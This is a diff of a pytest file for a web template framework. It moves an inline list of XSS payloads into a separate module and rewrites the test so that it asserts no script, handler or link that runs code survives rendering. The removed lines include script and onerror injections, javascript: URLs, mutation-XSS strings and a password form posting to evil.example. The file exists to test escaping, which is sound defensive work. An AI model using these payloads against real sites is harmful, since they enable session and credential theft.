@@ -6,36 +6,8 @@ import re
 from html.parser import HTMLParser
 
 import pytest
+from payloads import PAYLOADS
 
-PAYLOADS = [
-    "<script>alert(1)</script>",
-    "<ScRiPt src=//evil.example></sCrIpT>",
-    "<img src=x onerror=alert(1)>",
-    "<svg onload=alert(1)>",
-    "<svg><script>alert&#40;1)</script></svg>",
-    "<a href='javascript:alert(1)'>x</a>",
-    "<a href='jAvA\tscript:alert(1)'>x</a>",
-    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
-    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
-    "<form action='https://evil.example'><input name=password></form>",
-    "<style>@import '//evil.example'</style>",
-    "<p style='background:url(javascript:alert(1))'>x</p>",
-    "<base href='https://evil.example/'>",
-    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
-    "<object data='javascript:alert(1)'></object>",
-    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-    '"><script>alert(1)</script>',
-    "' onmouseover='alert(1)",
-    '" onfocus=alert(1) autofocus="',
-    "{{ 7 * 7 }}{% for x in y %}",
-    "</title><script>alert(1)</script>",
-    "]]><script>alert(1)</script>",
-    "<x contenteditable onblur=alert(1)>lose focus</x>",
-    "[x](javascript:alert(1))",
-    "![x](x 'onerror=alert(1)')",
-    "<div data-hx-get='/x' hx-on:click='alert(1)'>x</div>",
-]
 PAGE = """<!doctype html><title>{{ t.title }}</title><p title="{{ t.title }}">{{ t.title }}</p>
 <div>{{ t.body | html }}</div><div>{{ t.body | markdown }}</div><p>{{ t.body | plain(40) }}</p>
 <p>{{ request.query.q }}</p>"""
@@ -57,7 +29,7 @@ HARMLESS = {
     "table",
     "svg",
 }
-HARMLESS |= {"tbody", "tr", "td", "math", "span", "br", "ul", "li", "ol"}
+HARMLESS |= {"details", "tbody", "tr", "td", "math", "span", "br", "ul", "li", "ol"}
 
 
 class Danger(HTMLParser):
@@ -78,18 +50,19 @@ class Danger(HTMLParser):
                 self.found.append(f"{tag} {name}={told}")
 
 
-@pytest.mark.parametrize("payload", PAYLOADS)
-async def test_records_cannot_bring_script(serve, payload):
+async def test_records_cannot_bring_script(serve):
     """Whatever a record or a query holds, the page has no element, attribute or link that runs anything."""
-    world = await serve({"pages/index.html": "{% set t = records.terms.first() %}" + PAGE})
-    await world.add(title=payload[:60], body=payload)
+    world = await serve({"pages/[id].html": "{% set t = records.terms.get(params.id) %}" + PAGE})
+    found = {}
 
-    text = await world.shown("/", q=payload)
+    for payload in PAYLOADS:
+        record = await world.add(title=payload[:60], body=payload)
+        danger = Danger()
+        danger.feed(await world.shown(f"/{record['id']}", q=payload))
+        found[payload] = danger.found
 
-    danger = Danger()
-    danger.feed(text)
-    assert danger.found == []
-    assert "49" not in text or "7 * 7" not in payload
+    assert {payload: what for payload, what in found.items() if what} == {}
+    assert len(found) >= 100
 
 
 async def test_feeds_cannot_bring_script(serve):
